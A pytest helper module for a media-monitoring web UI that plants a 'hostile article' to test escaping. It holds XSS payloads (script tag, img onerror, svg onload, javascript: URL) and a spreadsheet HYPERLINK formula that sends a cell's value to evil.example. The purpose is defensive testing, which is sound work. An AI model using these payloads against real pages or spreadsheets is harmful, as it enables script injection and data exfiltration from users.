"""Shared pieces of the `mediamon ui` tests: the real CLI server, Debian's chromium, and a
planted hostile article."""

from __future__ import annotations

import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.conftest import REPO

CHROMIUM = Path("/usr/bin/chromium")
# Debian's chromium as this machine runs it: no sandbox (root in CI), and none of the
# background connections a closed network refuses.
BROWSER_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
                "--disable-component-update", "--disable-sync", "--no-first-run"]  # fmt: skip
ARTIFACTS = REPO / "tests" / "artifacts" / "ui"  # screenshots (ignored by git)


def require_chromium() -> Path:
    """The browser tests must run on CI: a missing browser fails them, it never skips."""
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing: install Debian's chromium (`apt-get install -y "
                    "chromium`; .ci/run does it)")  # fmt: skip
    return CHROMIUM


@contextmanager
def ui_server(db: Path, *extra: str) -> Iterator[tuple[subprocess.Popen, str]]:
    """`mediamon ui --db DB --port 0` as a user starts it; yields (process, base URL)."""
    proc = subprocess.Popen(
        [sys.executable, "-m", "flows.cli", "ui", "--db", str(db), "--port", "0", *extra],
        cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    line = proc.stdout.readline() if proc.stdout else ""
    if not line.startswith("mediamon ui: http://"):
        proc.kill()
        raise AssertionError(
            f"ui did not start: {line!r} {proc.stderr.read() if proc.stderr else ''}"
        )
    base = line.split()[2].rstrip("/")
    try:
        yield proc, base
    finally:
        if proc.poll() is None:
            proc.send_signal(signal.SIGINT)
            try:
                proc.wait(timeout=20)
            except subprocess.TimeoutExpired:
                proc.kill()


def stop(proc: subprocess.Popen) -> tuple[int, str]:
    """Ctrl-C the server; (exit status, what it wrote to stderr)."""
    proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=30)
    return proc.returncode, err


def wait_for_exit(procs: list[subprocess.Popen], timeout: float) -> None:
    deadline = time.monotonic() + timeout
    while any(p.poll() is None for p in procs) and time.monotonic() < deadline:
        time.sleep(0.2)


# Payloads a hostile page or feed could carry: markup, event handlers, script URLs.
SCRIPT = "<script>window.__pwned = 1; alert('script')</script>"
IMG = '"><img src=x onerror="window.__pwned = 2; alert(\'img\')">'
SVG = "</textarea></title><svg onload=\"window.__pwned = 3; alert('svg')\">"
JS_URL = "javascript:window.__pwned = 4; alert('link')"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
HOSTILE_ID = "hostile0000000001"
HOSTILE_ENTITY = "hostileentity0001"
HOSTILE_KEY = "hostilekey000001"


def plant_hostile_article(db: Path) -> dict[str, str]:
    """Add an article whose title, text, URL, outlet, speaker, cue, claim, relay, rule and
    entity all carry hostile payloads, plus a failing feed with a script URL and error,
    through the real rollup refresh. Returns the ids to visit."""
    from warehouse.db import Warehouse
    from warehouse.rollups import refresh_rollups

    now = datetime.now(UTC)
    speaker = f"Minister {IMG}"
    content = f"the talks would resume {SCRIPT} and {SVG}"
    text = f"{speaker} said {content}. {FORMULA} is not a formula here. Visit {JS_URL} now."
    s_start = 0
    c_start = text.index(content)
    e_start = text.index("Minister")
    with Warehouse(db).writer() as con:
        con.execute("BEGIN TRANSACTION")
        con.execute(
            "INSERT INTO outlets VALUES ($o, 'GB', 'en', [$o], $now) ON CONFLICT DO NOTHING",
            {"o": f"Outlet {IMG}", "now": now},
        )
        con.execute(
            """INSERT INTO feeds (feed_id, url, name, outlet, added_at, last_polled_at,
                                  last_status, last_error)
               VALUES ('hostilefeed', $url, $name, $o, $now, $now, 500, $err)""",
            {"url": JS_URL, "name": f"Feed {SCRIPT}", "o": f"Outlet {IMG}", "now": now,
             "err": f"HTTP 500 {SVG}"},
        )  # fmt: skip
        con.execute(
            """INSERT INTO articles (article_id, url, canonical_url, outlet, title, authors,
                                     published_at, fetched_at, language, text, word_count,
                                     content_hash, extractor_version)
               VALUES ($id, $url, $url, $o, $title, [$author], $now, $now, 'en', $text, 30,
                       'hostile', 'test')""",
            {"id": HOSTILE_ID, "url": JS_URL, "o": f"Outlet {IMG}", "title": f"Title {SCRIPT}",
             "author": IMG, "now": now, "text": text},
        )  # fmt: skip
        con.execute(
            "INSERT INTO entities VALUES ($id, $name, 'person', [$alias], NULL, $now)",
            {"id": HOSTILE_ENTITY, "name": speaker, "alias": SCRIPT, "now": now},
        )
        con.execute(
            """INSERT INTO mentions VALUES ($a, $e, 'Minister', $s, $end, 0, $label, 'test')""",
            {"a": HOSTILE_ID, "e": HOSTILE_ENTITY, "s": e_start, "end": e_start + 8,
             "label": IMG},
        )  # fmt: skip
        con.execute(
            """INSERT INTO claims (claim_id, article_id, speaker, speaker_canonical,
                   speaker_entity_id, speaker_kind, cue, cue_lemma, content, quote_type, via,
                   content_start, content_end, speaker_start, speaker_end, sentence,
                   confidence, extractor_version, content_key, rule)
               VALUES ('hostileclaim', $a, $sp, $sp, $e, 'person', $cue, $lemma, $content,
                       'indirect', [$via], $cs, $ce, $ss, $se, 0, 0.9, 'test', $key, $rule)""",
            {"a": HOSTILE_ID, "sp": speaker, "e": HOSTILE_ENTITY, "cue": FORMULA, "lemma": SVG,
             "content": content, "via": SCRIPT, "cs": c_start, "ce": c_start + len(content),
             "ss": s_start, "se": len(speaker), "key": HOSTILE_KEY, "rule": IMG},
        )  # fmt: skip
        con.execute(
            """INSERT INTO article_analysis (article_id, analysed, fingerprint, claims,
                   mentions, analysed_at, status, error)
               VALUES ($a, TRUE, 'test', 1, 1, $now, 'failed', $err)""",
            {"a": HOSTILE_ID, "now": now, "err": SCRIPT},
        )  # fmt: skip
        refresh_rollups(con, [HOSTILE_ID])
        con.execute("COMMIT")
    return {"article": HOSTILE_ID, "entity": HOSTILE_ENTITY, "key": HOSTILE_KEY}


@contextmanager
def thread_server(app: object) -> Iterator[str]:
    """An app on a loopback port in a thread of this process (for variants of the app that
    the command does not offer, such as no CSP); yields its base URL."""
    import socket
    import threading

    import uvicorn

    sock = socket.create_server(("127.0.0.1", 0))
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", lifespan="off"))
    thread = threading.Thread(target=server.run, kwargs={"sockets": [sock]}, daemon=True)
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started and time.monotonic() < deadline:
        time.sleep(0.05)
    try:
        yield f"http://127.0.0.1:{sock.getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(timeout=10)
        sock.close()
